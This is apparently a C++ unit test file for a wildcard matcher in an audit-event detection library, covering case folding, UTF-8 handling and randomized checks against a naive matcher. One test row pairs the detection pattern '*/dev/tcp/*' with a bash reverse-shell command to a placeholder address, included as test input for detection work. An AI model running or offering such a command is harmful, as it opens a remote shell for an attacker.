// SPDX-License-Identifier: Apache-2.0
#include "detect/text/wildcard.hpp"

#include <random>
#include <string>
#include <vector>

#include <boost/test/unit_test.hpp>

#include "detect/text/utf8.hpp"

namespace {

using namespace audisp_eql::detect;

// What the matcher should say, in the fewest words; exponential, for short inputs only.
bool naive(std::string_view pattern, std::string_view value) {
    if (pattern.empty())
        return value.empty();
    if (pattern[0] == '*' && naive(pattern.substr(1), value))
        return true;
    if (value.empty())
        return false;
    const std::string_view rest = value.substr(character_length(value, 0));
    if (pattern[0] == '*')
        return naive(pattern, rest);
    if (pattern[0] == '?')
        return naive(pattern.substr(1), rest);
    return pattern[0] == value[0] && naive(pattern.substr(1), value.substr(1));
}

bool matches(std::string pattern, std::string_view value, bool fold_case = false) {
    const std::vector<std::string> patterns{std::move(pattern)};
    return WildcardSet(patterns, fold_case).matches(value);
}

std::string random_text(std::mt19937& random, const std::vector<std::string>& pieces,
                        std::size_t most) {
    std::string text;
    for (std::size_t n = random() % (most + 1); n > 0; --n)
        text += pieces[random() % pieces.size()];
    return text;
}

BOOST_AUTO_TEST_SUITE(text)

BOOST_AUTO_TEST_CASE(patterns_match_whole_values) {
    struct Row {
        const char* pattern;
        const char* value;
        bool sensitive, folded;
    };
    const Row rows[] = {
        {"*", "", true, true},
        {"**", "a\nb", true, true},
        {"", "", true, true},
        {"", "a", false, false},
        {"bash", "bash", true, true},
        {"bash", "BASH", false, true},
        {"BASH", "bash", false, true},
        {"/tmp/*", "/tmp/", true, true},
        {"/tmp/*", "/tmp", false, false},
        {"/tmp/*", "/TMP/x/y", false, true},
        {"*.sh", "a.sh\n", false, false},
        {"*.sh", "a\n.sh", true, true},
        {"*/dev/tcp/*", "bash -i >& /dev/tcp/192.0.2.1/1", true, true},
        {"python*3", "python3", true, true},
        {"python?.?", "python3.9", true, true},
        {"python?.?", "python3.11", false, false},
        {"?", "", false, false},
        {"?", "\n", true, true},
        {"?", "\xc3\xa9", true, true},  // é: one character
        {"??", "\xc3\xa9", false, false},
        {"?", "\xe2\x82\xac", true, true},      // the euro sign
        {"?", "\xf0\x9f\x98\x80", true, true},  // beyond the basic plane
        {"??", "\xc3(", true, true},            // no UTF-8: bytes count
        {"??", "\xc0\x80", true, true},         // overlong
        {"???", "\xed\xa0\x80", true, true},    // a surrogate
        {"*??", "\xe2\x82\xac", false, false},  // a star takes no half characters
        {"a*b*c", "abc", true, true},
        {"a*b*c", "acb", false, false},
        {"ab*ba", "aba", false, false},  // both ends need their own bytes
        {"*\\*", "a\\", true, true},     // no escape
        {"\\?", "\\x", true, true},
        {"\xc3\x89*", "\xc3\xa9t", false, false},  // folding is ASCII only
    };
    for (const Row& row : rows) {
        BOOST_TEST_CONTEXT(row.pattern << " on " << row.value) {
            BOOST_TEST(matches(row.pattern, row.value) == row.sensitive);
            BOOST_TEST(matches(row.pattern, row.value, true) == row.folded);
            BOOST_TEST(Wildcard(row.pattern, false).matches(row.value) == row.sensitive);
            BOOST_TEST(Wildcard(row.pattern, true).matches(row.value) == row.folded);
        }
    }
}

BOOST_AUTO_TEST_CASE(wildcard_zero_bytes_are_bytes) {
    BOOST_TEST(matches("a*c", std::string_view("a\0c", 3)));
    BOOST_TEST(!matches("a", std::string_view("a\0", 2)));
}

BOOST_AUTO_TEST_CASE(single_patterns_agree_with_the_naive_matcher) {
    std::mt19937 random(1);
    const std::vector<std::string> in_patterns{"a", "b", "/", "\xc3\xa9", "\xe2\x82\xac", "*", "?"};
    const std::vector<std::string> in_values{"a",    "b",    "/",    "\xc3\xa9", "\xe2\x82\xac",
                                             "\xc3", "\xa9", "\xe2", "\n"};
    std::size_t hits = 0;
    for (int i = 0; i < 100'000; ++i) {
        const std::string pattern = random_text(random, in_patterns, 7);
        const std::string value = random_text(random, in_values, 8);
        const bool expected = naive(pattern, value);
        hits += expected;
        if (matches(pattern, value) != expected ||
            Wildcard(pattern, false).matches(value) != expected)
            BOOST_ERROR("pattern " << pattern << " on " << value);
    }
    BOOST_TEST(hits > 1000u);
}

BOOST_AUTO_TEST_CASE(lists_agree_with_the_naive_matcher) {
    std::mt19937 random(2);
    const std::vector<std::string> in_patterns{"a", "B", "ab", "/", "*", "*", "?"};
    const std::vector<std::string> in_values{"a", "A", "b", "B", "/"};
    std::size_t hits = 0;
    for (int i = 0; i < 20'000; ++i) {
        std::vector<std::string> patterns;
        for (std::size_t n = random() % 12; n > 0; --n)
            patterns.push_back(random_text(random, in_patterns, 5));
        const std::string value = random_text(random, in_values, 6);
        for (const bool fold_case : {false, true}) {
            bool expected = false;
            for (const std::string& pattern : patterns)
                expected |=
                    fold_case ? naive(folded(pattern), folded(value)) : naive(pattern, value);
            hits += expected;
            if (WildcardSet(patterns, fold_case).matches(value) != expected)
                BOOST_ERROR("list number " << i << " on " << value);
        }
    }
    BOOST_TEST(hits > 1000u);
}

BOOST_AUTO_TEST_CASE(an_empty_list_matches_nothing) {
    const std::vector<std::string> none;
    BOOST_TEST(!WildcardSet(none, true).matches(""));
    BOOST_TEST(!WildcardSet(none, true).matches("a"));
}

// A backtracking matcher would need some 10^25 steps here.
BOOST_AUTO_TEST_CASE(no_pattern_blows_up) {
    std::string pattern;
    for (int i = 0; i < 30; ++i)
        pattern += "*a?";
    const std::string value(20'000, 'a');
    BOOST_TEST(Wildcard(pattern + "*", false).matches(value));
    BOOST_TEST(!Wildcard(pattern + "b", false).matches(value));
}

BOOST_AUTO_TEST_CASE(text_sets_hold_literals) {
    TextSet exact(false), any_case(true);
    for (const char* text : {"bash", "1*", ""}) {
        exact.add(text);
        any_case.add(text);
    }
    BOOST_TEST(exact.contains("bash"));
    BOOST_TEST(!exact.contains("BASH"));
    BOOST_TEST(!exact.contains("12"));
    BOOST_TEST(exact.contains(""));
    BOOST_TEST(any_case.contains("BaSh"));
    BOOST_TEST(!any_case.contains(std::string(5000, 'x')));
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace
